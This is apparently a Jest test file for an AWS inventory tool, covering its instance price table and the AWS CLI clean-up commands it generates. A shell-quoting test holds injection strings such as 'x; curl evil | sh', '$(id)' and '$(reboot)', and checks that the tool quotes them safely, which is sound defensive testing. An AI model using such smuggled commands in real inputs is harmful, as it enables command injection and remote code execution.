import {
  deletedTrailCleanup,
  detectorCleanup,
  ec2ImageCleanup,
  ec2InstanceCleanup,
  ec2KeyPairCleanup,
  ec2SnapshotCleanup,
  ec2SpotRequestCleanup,
  iamAccessKeyCleanup,
  iamPolicyVersionCleanup,
  iamUserCleanup,
  lightsailInstanceCleanup,
  sh,
  trailCleanup,
} from '../../lambdas/inventory/cleanup';
import {
  hourlyUsd,
  PRICE_TABLE_DATE,
  PRICE_TABLE_REGION,
  PRICE_TABLE_SOURCE,
} from '../../lambdas/inventory/pricing';

describe('price table', () => {
  it('states its date, basis and Region', () => {
    expect(PRICE_TABLE_DATE).toMatch(/^\d{4}-\d{2}-\d{2}$/);
    expect(PRICE_TABLE_SOURCE).toMatch(/approximate/i);
    expect(PRICE_TABLE_SOURCE).toContain('us-east-1');
    expect(PRICE_TABLE_REGION).toBe('us-east-1');
  });

  it.each([
    ['t3.micro', 0.0104],
    ['m5.xlarge', 0.192],
    ['c6i.2xlarge', 0.34],
    ['r5.large', 0.126],
    ['g4dn.xlarge', 0.526],
    ['g5.48xlarge', 16.288],
    ['p3.16xlarge', 24.48],
    ['p4d.24xlarge', 21.9576],
    ['p5.48xlarge', 55.04],
    ['inf2.48xlarge', 12.9813],
  ])('prices EC2 %s at $%s an hour', (type, price) => {
    expect(hourlyUsd('ec2', type, 'us-east-1')).toBe(price);
  });

  it('applies no Region multiplier: elsewhere the figure is a floor', () => {
    expect(hourlyUsd('ec2', 'g4dn.xlarge', 'sa-east-1')).toBe(hourlyUsd('ec2', 'g4dn.xlarge', 'us-east-1'));
  });

  it('prices Lightsail bundles per hour as Lightsail bills them (monthly / 744)', () => {
    expect(hourlyUsd('lightsail', 'nano_3_0', 'eu-west-1')).toBe(0.0067);
    expect(hourlyUsd('lightsail', '2xlarge_3_0', 'eu-west-1')).toBe(0.2204);
    expect(hourlyUsd('lightsail', 'small_2_0', 'eu-west-1')).toBe(0.0161);
    expect(hourlyUsd('lightsail', 'small_win_3_0', 'eu-west-1')).toBeUndefined();
  });

  it('prices a few SageMaker ML instances', () => {
    expect(hourlyUsd('sagemaker', 'ml.g5.xlarge', 'us-east-1')).toBe(1.408);
  });

  it('says nothing rather than guess for types it does not have', () => {
    expect(hourlyUsd('ec2', 'x9.hyperlarge', 'us-east-1')).toBeUndefined();
    expect(hourlyUsd('sagemaker', 'g4dn.xlarge', 'us-east-1')).toBeUndefined();
  });
});

describe('clean-up lines', () => {
  it('quotes account-supplied values so a pasted line cannot run anything else', () => {
    expect(sh('i-0abc123')).toBe('i-0abc123');
    expect(sh('arn:aws:iam::aws:policy/AdministratorAccess')).toBe(
      'arn:aws:iam::aws:policy/AdministratorAccess',
    );
    expect(sh('x; curl evil | sh')).toBe("'x; curl evil | sh'");
    expect(sh("it's $(id)")).toBe(`'it'\\''s $(id)'`);
    expect(sh('')).toBe("''");
    expect(ec2KeyPairCleanup('eu-west-1', '$(reboot)').cleanup).toBe(
      "aws ec2 delete-key-pair --region eu-west-1 --key-name '$(reboot)'",
    );
  });

  it('terminates an instance after whatever would relaunch it', () => {
    expect(
      ec2InstanceCleanup('us-east-1', 'i-1', { spotFleetRequestId: 'sfr-1', ec2FleetId: 'fleet-1' }).cleanup,
    ).toBe(
      'aws ec2 cancel-spot-fleet-requests --region us-east-1 --spot-fleet-request-ids sfr-1 --terminate-instances && ' +
        'aws ec2 delete-fleets --region us-east-1 --fleet-ids fleet-1 --terminate-instances && ' +
        'aws ec2 modify-instance-attribute --region us-east-1 --instance-id i-1 --no-disable-api-termination && ' +
        'aws ec2 terminate-instances --region us-east-1 --instance-ids i-1',
    );
    expect(ec2InstanceCleanup('us-east-1', 'i-1', { state: 'shutting-down' }).cleanup).toBe(
      '# nothing to remove',
    );
  });

  it('has nothing to do for a finished Spot request', () => {
    expect(ec2SpotRequestCleanup('us-east-1', 'sir-1', 'cancelled').cleanup).toBe('# nothing to remove');
  });

  it('removes every kind of AMI and snapshot sharing', () => {
    expect(
      ec2ImageCleanup('eu-west-1', 'ami-1', {
        public: true,
        accounts: ['999988887777'],
        organizationalUnits: ['arn:aws:organizations::1:ou/o-1/ou-1'],
      }).cleanup,
    ).toBe(
      "aws ec2 modify-image-attribute --region eu-west-1 --image-id ami-1 --launch-permission 'Remove=[{Group=all},{UserId=999988887777},{OrganizationalUnitArn=arn:aws:organizations::1:ou/o-1/ou-1}]'",
    );
    expect(ec2SnapshotCleanup('eu-west-1', 'snap-1', { public: true, accounts: ['1', '2'] }).cleanup).toBe(
      'aws ec2 modify-snapshot-attribute --region eu-west-1 --snapshot-id snap-1 --attribute createVolumePermission --operation-type remove --group-names all && ' +
        'aws ec2 modify-snapshot-attribute --region eu-west-1 --snapshot-id snap-1 --attribute createVolumePermission --operation-type remove --user-ids 1 2',
    );
  });

  it('deletes a user with nothing attached in one call, and an access key with its user', () => {
    expect(
      iamUserCleanup('u', {
        accessKeyIds: [],
        hasLoginProfile: false,
        attachedPolicyArns: [],
        inlinePolicyNames: [],
        groups: [],
      }).cleanup,
    ).toBe('aws iam delete-user --user-name u');
    expect(iamAccessKeyCleanup('u', 'AKIA1')).toEqual({
      cleanup: 'aws iam delete-access-key --user-name u --access-key-id AKIA1',
      consoleUrl: 'https://console.aws.amazon.com/iam/home#/users/details/u?section=security_credentials',
    });
  });

  it('deletes a non-default policy version directly', () => {
    expect(iamPolicyVersionCleanup('arn:aws:iam::1:policy/p', 'v2', false, 'v1').cleanup).toBe(
      'aws iam delete-policy-version --policy-arn arn:aws:iam::1:policy/p --version-id v2',
    );
  });

  it('links the console pages', () => {
    expect(lightsailInstanceCleanup('eu-west-1', 'miner 1')).toEqual({
      cleanup: "aws lightsail delete-instance --region eu-west-1 --instance-name 'miner 1'",
      consoleUrl: 'https://lightsail.aws.amazon.com/ls/webapp/eu-west-1/instances/miner%201/connect',
    });
    expect(
      iamUserCleanup('a/b', {
        accessKeyIds: [],
        hasLoginProfile: false,
        attachedPolicyArns: [],
        inlinePolicyNames: [],
        groups: [],
      }).consoleUrl,
    ).toBe('https://console.aws.amazon.com/iam/home#/users/details/a%2Fb');
  });

  it('restarts, repairs or recreates guard rails', () => {
    const arn = 'arn:aws:cloudtrail:us-east-1:1:trail/main';
    expect(
      trailCleanup('us-east-1', arn, { stopped: true, advancedEventSelectors: [{ Name: 'm' }] }).cleanup,
    ).toBe(
      `aws cloudtrail start-logging --region us-east-1 --name ${arn} && ` +
        `aws cloudtrail put-event-selectors --region us-east-1 --trail-name ${arn} --advanced-event-selectors '[{"Name":"m"}]'`,
    );
    // The bucket is not in the DeleteTrail record: the line stops with a message unless TRAIL_BUCKET is set.
    expect(deletedTrailCleanup('eu-west-1', 'gone').cleanup).toBe(
      'aws cloudtrail create-trail --region eu-west-1 --name gone --s3-bucket-name ' +
        `"\${TRAIL_BUCKET:?set TRAIL_BUCKET to the log bucket}" --is-multi-region-trail && ` +
        'aws cloudtrail start-logging --region eu-west-1 --name gone',
    );
    expect(detectorCleanup('eu-west-1', 'd1', false).cleanup).toBe(
      'aws guardduty update-detector --region eu-west-1 --detector-id d1 --enable',
    );
  });
});
